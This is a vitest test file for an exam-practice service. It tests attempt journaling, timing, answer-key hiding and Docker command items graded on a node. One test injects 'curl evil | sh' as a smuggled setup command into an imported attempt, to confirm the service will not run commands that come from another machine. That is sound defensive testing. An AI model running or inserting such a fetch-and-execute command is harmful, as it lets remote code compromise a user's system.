import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import { bankOf, everyItem, parseQuestions, wholeItems } from '../../../exam'
import { CapstanError } from '../../../shared/errors'
import { choicesOf } from '../../../test/fakes/choices'
import { FakeSessions } from '../../../test/fakes/sessions'
import type { AttemptView } from '../../api'
import { JournalFolder } from '../../store'
import type { Chance, Moment } from '../attempts'
import { type LoadedBank, loadBank } from '../bank'
import { ExamEntry, type ExamsOptions, ExamsService } from '.'

const resources = fileURLToPath(new URL('../../..', import.meta.url))
let bank: LoadedBank
let folder: string
const opened: ExamsService[] = []

beforeAll(async () => {
  bank = choicesOf(await loadBank(resources))
})
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'capstan-exams-'))
})
afterEach(async () => {
  await Promise.all(opened.splice(0).map((service) => service.dispose()))
  await rm(folder, { recursive: true })
})

/** As another process would open it. */
function open(options: Partial<ExamsOptions> = {}): ExamsService {
  const service = new ExamsService({
    bank,
    journals: new JournalFolder({
      folder,
      entry: ExamEntry,
      onCorrupt: (message) => expect.fail(message),
    }),
    onProblem: (message) => expect.fail(message),
    labs: () => [{ id: 'published-ports', title: 'Ports', objectives: ['NET-05'] }],
    passMark: () => 65,
    ...options,
  })
  opened.push(service)
  return service
}

/** Answers whatever is shown: yes to the first option, or chooses it. */
async function answer(service: ExamsService, id: string, view: AttemptView): Promise<AttemptView> {
  const { index, delivery, options } = view.current
  const [first] = options
  if (!first) return view
  return delivery === 'domc'
    ? await service.apply(id, { kind: 'decided', item: index, option: first.id, yes: true })
    : await service.apply(id, { kind: 'chose', item: index, options: [first.id] })
}

/** Takes every item in order to its end. */
async function sit(service: ExamsService, id: string): Promise<void> {
  for (let index = 0; index < (await service.view(id)).items.length; index++) {
    let view = await service.apply(id, { kind: 'moved', item: index })
    if (view.current.delivery === 'classic') await answer(service, id, view)
    else while (!view.current.closed) view = await answer(service, id, view)
  }
}

test('a real exam runs from the first item to its result', async () => {
  const service = open()
  const id = await service.start({ mode: 'real', extraTime: 1 })
  expect((await service.view(id)).timeLeft).toBeLessThanOrEqual(90 * 60_000)
  await expect(service.result(id)).rejects.toMatchObject({ code: 'session-state' })
  await sit(service, id)
  expect((await service.apply(id, { kind: 'ended', by: 'candidate' })).state).toBe('ended')
  const result = await service.result(id)
  expect(result.items).toHaveLength(55)
  expect(result.items.every(({ answered }) => answered)).toBe(true)
  expect(result.domains.reduce((sum, { of }) => sum + of, 0)).toBe(55)
  expect((await service.list()).map((one) => [one.id, one.state])).toEqual([[id, 'ended']])
})

test('no key, explanation or reason is in what the page gets before the end', async () => {
  const service = open()
  const id = await service.start({ mode: 'real', extraTime: 1 })
  const secrets = new Set<string>()
  for (const { explanation, options } of wholeItems(bank.bank, everyItem(bank.bank))) {
    secrets.add(explanation.trim())
    for (const { why } of options) if (why) secrets.add(why)
  }
  const seen: string[] = []
  const stop = await service.watch(id, (view) => seen.push(JSON.stringify(view)))
  await sit(service, id)
  stop()
  const wire = seen.join('\n')
  for (const secret of secrets) expect(wire.includes(JSON.stringify(secret).slice(1, -1))).toBe(false)
  expect(wire).not.toMatch(/"(key|right|why|explanation|order)":/)
})

test('another process finds the same item, the same answers and no more time', async () => {
  const first = open()
  const id = await first.start({ mode: 'real', extraTime: 1.5 })
  await answer(first, id, await first.view(id))
  const before = await first.view(id)
  await first.dispose()
  const after = await open().view(id)
  expect({ ...after, timeLeft: 0 }).toEqual({ ...before, timeLeft: 0 })
  expect(after.timeLeft).toBeLessThanOrEqual(before.timeLeft ?? 0)
  expect(after.timeLeft).toBeGreaterThan(134 * 60_000)
})

/** Chance that gives these seeds, one after the other. */
function seeds(first: number): Chance {
  let count = 0
  return { id: () => `attempt-${first}-${++count}`, seed: () => first + count }
}

/** A drill whose first item is delivered as the test wants it: the first of a few seeds that does so. */
async function drillWith(delivery: 'classic' | 'domc'): Promise<{ service: ExamsService; id: string }> {
  for (let count = 1; count <= 50; count++) {
    // Seeds that lie close together begin with the same delivery.
    const service = open({ chance: seeds((count * 40_503_001) % 2 ** 31) })
    const id = await service.start({ mode: 'drill', length: 6, domains: ['networking'], extraTime: 1 })
    if ((await service.view(id)).current.delivery === delivery) return { service, id }
  }
  return expect.fail(`No seed gives a drill whose first item is ${delivery}.`)
}

const linesOf = async (id: string) =>
  (await readFile(join(folder, `${id}.jsonl`), 'utf8'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line).event)

test('two windows at once decide a DOMC item once, and make one journal', async () => {
  const { service, id } = await drillWith('domc')
  const option = (await service.view(id)).current.options[0]?.id ?? expect.fail('no option is shown')
  const answers = await Promise.all(
    [true, false].map((yes) => service.apply(id, { kind: 'decided', item: 0, option, yes })),
  )
  expect(answers[1]?.items).toEqual(answers[0]?.items)
  expect((await linesOf(id)).map(({ kind }) => kind)).toEqual(['began', 'decided', 'decided'])
  const resumed = await open().view(id)
  expect(resumed.items).toEqual((await service.view(id)).items)
  expect(resumed.current.decided).toBe(1)
})

test('two windows at once choose in a classic item one after the other, and the later choice stays', async () => {
  const { service, id } = await drillWith('classic')
  const [one, other] = (await service.view(id)).current.options.map((option) => option.id)
  if (one === undefined || other === undefined) return expect.fail('two options are needed')
  await Promise.all(
    [one, other].map((option) => service.apply(id, { kind: 'chose', item: 0, options: [option] })),
  )
  expect((await linesOf(id)).map(({ options }) => options)).toEqual([undefined, [one], [other]])
  expect((await open().view(id)).current.chosen).toEqual([other])
  return undefined
})

test('as many options are chosen as the item has, and one more is refused before it is journaled', async () => {
  const { service, id } = await drillWith('classic')
  const all = (await service.view(id)).current.options.map((option) => option.id)
  const choose = (options: number[]) => service.apply(id, { kind: 'chose', item: 0, options })
  expect((await choose(all)).current.chosen.toSorted()).toEqual(all.toSorted())
  // No item has room for one option twice.
  await expect(choose([...all, ...all.slice(0, 1)])).rejects.toMatchObject({
    code: 'bad-input',
    message: 'The item has fewer options.',
  })
  expect((await linesOf(id)).map(({ kind }) => kind)).toEqual(['began', 'chose'])
})

test('the same chance gives the same form, another chance another one', async () => {
  const formOf = async (seed: number) => {
    const service = open({ chance: seeds(seed) })
    const id = await service.start({ mode: 'practice', length: 12, extraTime: 1 })
    const stored = (await service.all()).find(({ attempt }) => attempt.id === id)
    await rm(join(folder, `${id}.jsonl`))
    return stored?.attempt.form
  }
  expect(await formOf(7)).toEqual(await formOf(7))
  expect(await formOf(8)).not.toEqual(await formOf(7))
})

test('practice shows the explanation once an item is over; a real exam does not', async () => {
  const service = open()
  const id = await service.start({ mode: 'practice', length: 12, extraTime: 1 })
  let view = await service.view(id)
  expect(view.timeLeft).toBeNull()
  expect(view.current.revealed).toBeNull()
  if (view.current.delivery === 'classic') view = await service.apply(id, { kind: 'revealed', item: 0 })
  else while (!view.current.closed) view = await answer(service, id, view)
  expect(view.current.revealed?.explanation).not.toBe('')
  expect(view.current.revealed?.options.some(({ right }) => right)).toBe(true)
  const real = await service.start({ mode: 'real', extraTime: 1 })
  await expect(service.apply(real, { kind: 'revealed', item: 0 })).rejects.toMatchObject({
    code: 'session-state',
  })
})

test('what was seen in one form is not the first choice for the next', async () => {
  const service = open()
  const idsOf = async (id: string) => {
    await service.apply(id, { kind: 'ended', by: 'candidate' })
    return (await service.result(id)).items.map((item) => item.id)
  }
  const drill = { mode: 'drill' as const, length: 10, domains: ['storage'], extraTime: 1 }
  const first = await idsOf(await service.start(drill))
  const second = await idsOf(await service.start(drill))
  expect(second.filter((id) => first.includes(id))).toEqual([])
})

test('a drill of objectives asks only them, and is shorter where there are fewer items', async () => {
  const service = open()
  const objectives = ['NET-12', 'SEC-12']
  const id = await service.start({ mode: 'drill', length: 200, objectives, extraTime: 1 })
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  const { items } = await service.result(id)
  expect(items.length).toBeGreaterThan(2)
  expect(items.length).toBeLessThan(200)
  for (const item of items) expect(item.objectives.some((one) => objectives.includes(one))).toBe(true)
  const nothing = service.start({ mode: 'drill', objectives: ['NET-99'], extraTime: 1 })
  await expect(nothing).rejects.toMatchObject({ code: 'bad-input' })
})

test('more items than a domain has are refused with a way out', async () => {
  const started = open().start({ mode: 'practice', length: 200, domains: ['storage'], extraTime: 1 })
  await expect(started).rejects.toMatchObject({ code: 'bad-input', help: expect.stringContaining('fewer') })
})

test('the blueprint names every domain with its objectives and what the bank has of them', () => {
  const { length, minutes, domains } = open().blueprint()
  expect([length, minutes]).toEqual([55, 90])
  expect(domains.reduce((sum, { weight }) => sum + weight, 0)).toBe(100)
  for (const { objectives } of domains) for (const { items } of objectives) expect(items).toBeGreaterThan(0)
})

test('the list shows the time left of a real exam that nobody has opened again', async () => {
  const first = open()
  const id = await first.start({ mode: 'real', extraTime: 2 })
  await first.dispose()
  const [one] = await open().list()
  expect(one).toMatchObject({ id, state: 'running', answered: 0 })
  expect(one?.timeLeft).toBeGreaterThan(179 * 60_000)
  expect(one?.timeLeft).toBeLessThanOrEqual(180 * 60_000)
})

const REAL = { mode: 'real' as const, extraTime: 1 }

test('what no form could take is refused, and does not spoil the journal', async () => {
  const service = open()
  const id = await service.start(REAL)
  const before = await readFile(join(folder, `${id}.jsonl`), 'utf8')
  await expect(service.apply(id, { kind: 'moved', item: 99 })).rejects.toMatchObject({ code: 'bad-input' })
  expect(await readFile(join(folder, `${id}.jsonl`), 'utf8')).toBe(before)
  expect((await open().view(id)).current.index).toBe(0)
})

test('events are journaled in the order of the calls, also when an explanation is among them', async () => {
  const service = open()
  const id = await service.start({ mode: 'practice', length: 12, extraTime: 1 })
  await Promise.all([
    service.apply(id, { kind: 'revealed', item: 0 }),
    service.apply(id, { kind: 'flagged', item: 0, on: true }),
    service.apply(id, { kind: 'moved', item: 1 }),
  ])
  expect((await linesOf(id)).map(({ kind }) => kind)).toEqual(['began', 'revealed', 'flagged', 'moved'])
})

test('an event that cannot be saved changes nothing, and the next one can be saved', async () => {
  const journals = new JournalFolder({ folder, entry: ExamEntry, onCorrupt: (one) => expect.fail(one) })
  const service = open({ journals })
  const id = await service.start(REAL)
  const before = await service.view(id)
  const append = vi
    .spyOn(journals, 'append')
    .mockRejectedValueOnce(new CapstanError('no-space', 'Your answer could not be saved.'))
  const flag = () => service.apply(id, { kind: 'flagged', item: 0, on: true })
  await expect(flag()).rejects.toMatchObject({ code: 'no-space' })
  expect((await service.view(id)).items).toEqual(before.items)
  append.mockRestore()
  expect((await flag()).items[0]?.flagged).toBe(true)
})

test('a journal that cannot be read is reported once and never hides the others', async () => {
  const first = open()
  const good = await first.start(REAL)
  const [newer, bare] = ['newer', 'bare']
  await writeFile(join(folder, `${newer}.jsonl`), '{"v":7}\n')
  const moment = { uptime: 1, boot: '', wall: 1 }
  const tick = JSON.stringify({ event: { kind: 'ticked', at: 1 }, moment })
  await writeFile(join(folder, `${bare}.jsonl`), `${tick}\n`)
  const reported: string[] = []
  const service = open({ onProblem: (message) => reported.push(message) })
  expect((await service.list()).map(({ id }) => id)).toEqual([good])
  await service.list()
  expect(reported.sort()).toEqual([
    expect.stringContaining('/bare.jsonl cannot be opened'),
    'newer.jsonl was written by a newer Capstan.',
  ])
  await expect(service.view(newer)).rejects.toMatchObject({ code: 'store-corrupt' })
  await expect(service.view(bare)).rejects.toMatchObject({ code: 'store-corrupt' })
  await expect(service.view('none')).rejects.toMatchObject({ code: 'not-found' })
  await service.apply(good, { kind: 'ended', by: 'candidate' })
  expect(await service.start(REAL)).not.toBe(good)
})

test('a journal under the name of another attempt is reported, and nothing is written through it', async () => {
  const first = open()
  const good = await first.start(REAL)
  const before = await readFile(join(folder, `${good}.jsonl`), 'utf8')
  await writeFile(join(folder, 'copied.jsonl'), before)
  const reported: string[] = []
  const service = open({ onProblem: (message) => reported.push(message) })
  expect((await service.list()).map(({ id }) => id)).toEqual([good])
  await service.list()
  expect(reported).toEqual([expect.stringContaining('/copied.jsonl is the journal of another attempt.')])
  for (const work of [
    () => service.view('copied'),
    () => service.apply('copied', { kind: 'ended', by: 'candidate' }),
    () => service.result('copied'),
  ])
    await expect(work()).rejects.toMatchObject({
      code: 'store-corrupt',
      help: 'Give the file the name that it had.',
    })
  for (const id of [good, 'copied']) expect(await readFile(join(folder, `${id}.jsonl`), 'utf8')).toBe(before)
})

test('an exam whose items left the bank goes on, and is scored by the key of the day it began', async () => {
  const first = open()
  const id = await first.start(REAL)
  await sit(first, id)
  await first.dispose()
  const empty = { ...bank, bank: bankOf({ items: [], templates: [], problems: [] }) }
  const service = open({ bank: empty })
  expect((await service.view(id)).current).toEqual((await open().view(id)).current)
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  const result = await service.result(id)
  expect(result).toEqual(await open().result(id))
  expect(result.items[0]?.explanation).not.toBe('')
})

test('a corrected bank changes neither a running nor a finished attempt', async () => {
  const first = open()
  const id = await first.start(REAL)
  await sit(first, id)
  const item = (id: string) => {
    const found = bank.bank.item(id)
    if (!found) return undefined
    const options = found.options.map((option) => ({
      ...option,
      text: `${option.text} (new)`,
      id: 5,
      right: !option.right,
    }))
    return { ...found, stem: 'Asked differently.', explanation: 'Explained differently.', options }
  }
  const corrected = open({ bank: { ...bank, bank: { ...bank.bank, item } } })
  expect((await corrected.view(id)).current).toEqual((await first.view(id)).current)
  await corrected.apply(id, { kind: 'ended', by: 'candidate' })
  expect(await corrected.result(id)).toEqual(await open().result(id))
})

test('of two real exams that are begun at the same time exactly one runs', async () => {
  const service = open()
  const starts = await Promise.allSettled([service.start(REAL), service.start(REAL)])
  expect(starts.map(({ status }) => status)).toEqual(['fulfilled', 'rejected'])
  expect(starts[1]).toMatchObject({
    reason: { code: 'session-exists', message: 'A real exam is not over yet.' },
  })
  expect(await service.all()).toHaveLength(1)
})

test('while a real exam runs no practice is begun, seen, gone on with or ended, also after a restart', async () => {
  const first = open()
  const running = await first.start({ mode: 'practice', length: 5, extraTime: 1 })
  const over = await first.start({ mode: 'practice', length: 5, extraTime: 1 })
  await first.apply(over, { kind: 'ended', by: 'candidate' })
  const exam = await first.start(REAL)
  for (const service of [first, open()]) {
    const refused = [
      () => service.start({ mode: 'practice', length: 5, extraTime: 1 }),
      () => service.startDrill({ objectives: ['NET-05'], length: 5 }),
      () => service.view(running),
      () => service.watch(over, () => expect.fail('it is shown')),
      () => service.apply(running, { kind: 'revealed', item: 0 }),
      () => service.apply(running, { kind: 'ended', by: 'candidate' }),
      () => service.apply(over, { kind: 'moved', item: 0 }),
      () => service.result(over),
    ]
    for (const call of refused) await expect(call()).rejects.toMatchObject({ code: 'session-exists' })
    expect((await service.view(exam)).state).toBe('running')
  }
  await first.apply(exam, { kind: 'ended', by: 'candidate' })
  await expect(first.apply(running, { kind: 'moved', item: 0 })).resolves.toMatchObject({ state: 'running' })
  await expect(first.result(over)).resolves.toMatchObject({ id: over })
})

test('the result says how much extra time there was', async () => {
  const service = open()
  const id = await service.start({ mode: 'real', extraTime: 1.25 })
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  expect(await service.result(id)).toMatchObject({ extraTime: 1.25, limit: 112.5 * 60_000 })
})

test('options that were put in another order in the bank are still the same options', async () => {
  const first = open()
  const id = await first.start(REAL)
  const before = await first.view(id)
  const item = (id: string) => {
    const found = bank.bank.item(id)
    return found && { ...found, options: [...found.options].reverse() }
  }
  const service = open({ bank: { ...bank, bank: { ...bank.bank, item } } })
  expect((await service.view(id)).current.options).toEqual(before.current.options)
})

test('the ids of options do not show which is the key', () => {
  const ranks = wholeItems(bank.bank, bank.bank.items).flatMap(({ options }) => {
    const ids = options.map(({ id }) => id).sort((a, b) => a - b)
    return options.flatMap(({ id, right }) => (right ? (ids.indexOf(id) + 0.5) / ids.length : []))
  })
  const mean = ranks.reduce((sum, rank) => sum + rank, 0) / ranks.length
  // The mean of uniform ranks; its standard error over some 900 keys is below 0.01.
  expect(Math.abs(mean - 0.5)).toBeLessThan(0.04)
})

const NOON: Moment = { monotonic: 0, uptime: 3_600_000, boot: 'a', wall: Date.UTC(2026, 0, 1, 12) }
const MINUTE = 60_000

test.each<[string, Moment, number]>([
  ['the wall clock set back a day', { ...NOON, uptime: 4_200_000, wall: NOON.wall - 1440 * MINUTE }, 80],
  ['the wall clock set forward a day', { ...NOON, uptime: 4_200_000, wall: NOON.wall + 1440 * MINUTE }, 80],
  ['the machine restarted', { ...NOON, uptime: MINUTE, boot: 'b', wall: NOON.wall + 10 * MINUTE }, 80],
  ['the machine restarted, its clock set back', { ...NOON, uptime: 4 * MINUTE, boot: 'b', wall: 0 }, 86],
])('a real exam goes on with the right time left after %s', async (_name, later, minutes) => {
  const first = open({ now: () => NOON })
  const id = await first.start(REAL)
  await first.dispose()
  const { timeLeft } = await open({ now: () => later }).view(id)
  expect(timeLeft).toBeLessThanOrEqual(minutes * MINUTE)
  expect(timeLeft).toBeGreaterThan(minutes * MINUTE - 100)
})

test('a real exam whose time ran out while the app was away is over', async () => {
  const first = open({ now: () => NOON })
  const id = await first.start(REAL)
  await first.dispose()
  const later = { ...NOON, uptime: NOON.uptime + 100 * MINUTE }
  const service = open({ now: () => later })
  expect((await service.view(id)).timeLeft).toBe(0)
  expect((await service.apply(id, { kind: 'flagged', item: 0, on: true })).state).toBe('ended')
  expect((await service.result(id)).items.every(({ answered }) => !answered)).toBe(true)
})

test('the time that is left is that of now, not that of the last event', async () => {
  let now = NOON
  const service = open({ now: () => now })
  const id = await service.start(REAL)
  now = { ...NOON, monotonic: MINUTE, uptime: NOON.uptime + MINUTE }
  const seen: (number | null)[] = []
  const stop = await service.watch(id, ({ timeLeft }) => seen.push(timeLeft))
  stop()
  expect(seen).toEqual([89 * MINUTE])
  expect((await service.view(id)).timeLeft).toBe(89 * MINUTE)
})

test('an attempt that was deleted is in no list, and its items are unseen again', async () => {
  const service = open()
  const unseen = await service.unseen()
  const [id, other] = [
    await service.start({ mode: 'practice', length: 12, extraTime: 1 }),
    await service.start({ mode: 'practice', length: 6, domains: ['storage'], extraTime: 1 }),
  ]
  await sit(service, id)
  await expect(service.remove(id)).rejects.toMatchObject({ code: 'session-state' })
  for (const one of [id, other]) await service.apply(one, { kind: 'ended', by: 'candidate' })
  for (const one of [id, other]) await service.remove(one)
  expect([await service.list(), await service.all(), await service.seen()]).toEqual([[], [], []])
  expect(await service.unseen()).toEqual(unseen)
  await expect(service.result(id)).rejects.toMatchObject({ code: 'not-found' })
  await expect(open().view(id)).rejects.toMatchObject({ code: 'not-found' })
})

test('while a real exam runs no attempt is deleted', async () => {
  const service = open()
  const id = await service.start({ mode: 'practice', length: 6, extraTime: 1 })
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  const real = await service.start({ mode: 'real', extraTime: 1 })
  for (const one of [id, real])
    await expect(service.remove(one)).rejects.toMatchObject({ code: 'session-exists' })
  await service.apply(real, { kind: 'ended', by: 'candidate' })
  for (const one of [id, real]) await service.remove(one)
  expect(await service.list()).toEqual([])
})

const COMMAND = `- id: sto-cmd
  objectives: [STO-06]
  kind: command
  difficulty: easy
  stem: Remove the volume.
  command:
    checks: [{ name: It is gone, query: { api: /volumes, select: "length(Volumes)" }, expect: 0 }]
    solution: docker volume rm data
    mistakes: [{ run: docker volume prune -f, why: It leaves volumes with names. }]
  explanation: Because.
  source: measured
`

/** A drill of a command item and of one more, on an engine of the test. */
async function commandDrill(more: Partial<NonNullable<ExamsOptions['nodes']>> = {}) {
  const sessions = new FakeSessions()
  const { items } = parseQuestions({ file: 'storage/one.yaml', text: COMMAND })
  const [other] = wholeItems(bank.bank, bank.bank.items)
  const own = {
    ...bank,
    bank: bankOf({ items: [...items, ...(other ? [other] : [])], templates: [], problems: [] }),
  }
  const service = open({ bank: own, nodes: { sessions: () => sessions, onError: expect.fail, ...more } })
  const id = await service.startDrill({ items: ['sto-cmd', other?.id ?? ''] })
  return { service, id, sessions, grade: (green: boolean) => gradeOf(sessions, green) }
}

function gradeOf(sessions: FakeSessions, green: boolean): void {
  const state = green ? ('green' as const) : ('red' as const)
  for (const session of sessions.list())
    session.grades = [{ name: 'It is gone', state, expected: '0', found: '1', explanation: 'It is there.' }]
}

test.each([true, false])('a command item is judged on its node: %s', async (green) => {
  const { service, id, sessions, grade } = await commandDrill()
  const taken = await service.takeNode(id, 0)
  expect(taken.current).toMatchObject({ kind: 'command', command: { sessionId: sessions.list()[0]?.id } })
  expect(JSON.stringify(taken)).not.toContain('volume rm')
  grade(green)
  const judged = await service.judge(id, 0)
  expect(judged).toMatchObject({ kept: true, items: [{ outcome: green ? 'right' : 'wrong' }, {}] })
  expect(judged.current.revealed?.command).toMatchObject({
    checks: [{ name: 'It is gone', green }],
    solution: 'docker volume rm data',
  })
  expect(sessions.list()).toEqual([])
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  expect((await service.result(id)).total).toMatchObject({ right: green ? 1 : 0, of: 1 })
})

test('the node of a command item goes when the item is left, shown or over, and with the service', async () => {
  const { service, id, sessions } = await commandDrill()
  await service.takeNode(id, 0)
  await service.apply(id, { kind: 'moved', item: 1 })
  await expect.poll(() => sessions.list()).toEqual([])
  await service.apply(id, { kind: 'moved', item: 0 })
  await service.takeNode(id, 0)
  expect((await service.leaveNode(id, 0)).current.command).toEqual({ sessionId: null })
  await service.takeNode(id, 0)
  await service.dispose()
  expect(sessions.list()).toEqual([])
})

test('a command item that was not tried does not count, and nothing else can be judged', async () => {
  const { service, id } = await commandDrill()
  await expect(service.takeNode(id, 1)).rejects.toMatchObject({ code: 'bad-input' })
  await expect(service.judge(id, 0)).rejects.toMatchObject({ code: 'session-state' })
  const shown = await service.apply(id, { kind: 'revealed', item: 0 })
  expect(shown).toMatchObject({ items: [{ closed: true, answered: false, outcome: null }, {}] })
  expect(shown.current.revealed?.command).toMatchObject({ checks: null, solution: 'docker volume rm data' })
  await expect(service.takeNode(id, 0)).rejects.toMatchObject({ code: 'session-state' })
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  expect((await service.result(id)).total).toMatchObject({ of: 0 })
})

test('without an engine a command item gets no node, and the attempt goes on', async () => {
  const { items } = parseQuestions({ file: 'storage/one.yaml', text: COMMAND })
  const service = open({ bank: { ...bank, bank: bankOf({ items, templates: [], problems: [] }) } })
  const id = await service.startDrill({ items: ['sto-cmd'] })
  await expect(service.takeNode(id, 0)).rejects.toMatchObject({ code: 'no-engine' })
  expect((await service.view(id)).state).toBe('running')
})

test('a command that came with an attempt of another machine is not run', async () => {
  const { service, id, sessions, grade } = await commandDrill()
  await service.takeNode(id, 0)
  grade(true)
  await service.judge(id, 0)
  await service.apply(id, { kind: 'ended', by: 'candidate' })
  const [taken] = await service.archive.taken()
  if (!taken) throw new Error('No attempt was taken.')
  const foreign = JSON.parse(
    JSON.stringify({ ...taken, id: 'elsewhere' })
      .replaceAll(id, 'elsewhere')
      .replace('"command":{', '"command":{"setup":"curl evil | sh",'),
  )
  expect(await service.archive.bring(foreign)).toBe(true)
  const again = await service.retry('elsewhere', 'form')
  await expect(service.takeNode(again, 0)).rejects.toMatchObject({ code: 'session-state' })
  expect(sessions.list()).toEqual([])
  const honest = await service.retry(id, 'form')
  expect((await service.takeNode(honest, 0)).current.command?.sessionId).toBe(sessions.list()[0]?.id)
})

test('the node of a page that was closed without a word goes after a while', async () => {
  let ring: () => void = () => expect.fail('nothing waits')
  const alarm = (ringing: () => void) => {
    ring = ringing
    return () => undefined
  }
  const { service, id, sessions } = await commandDrill({ alarm })
  const stop = await service.watch(id, () => undefined)
  await service.takeNode(id, 0)
  stop()
  ring()
  await expect.poll(() => sessions.list()).toEqual([])
})

test('a command of the bank is run when its attempt was read from the disk', async () => {
  const sessions = new FakeSessions()
  const nodes = { sessions: () => sessions, onError: expect.fail }
  const house = await loadBank(resources)
  const commands = wholeItems(house.bank, house.bank.items).filter(({ command }) => command !== null)
  expect(commands.length).toBeGreaterThan(0)
  const first = open({ bank: house, nodes })
  const id = await first.startDrill({ items: commands.map((item) => item.id) })
  await first.dispose()
  const second = open({ bank: house, nodes })
  for (const index of commands.keys()) {
    await second.apply(id, { kind: 'moved', item: index })
    expect((await second.takeNode(id, index)).current.command?.sessionId).toEqual(expect.any(String))
  }
})
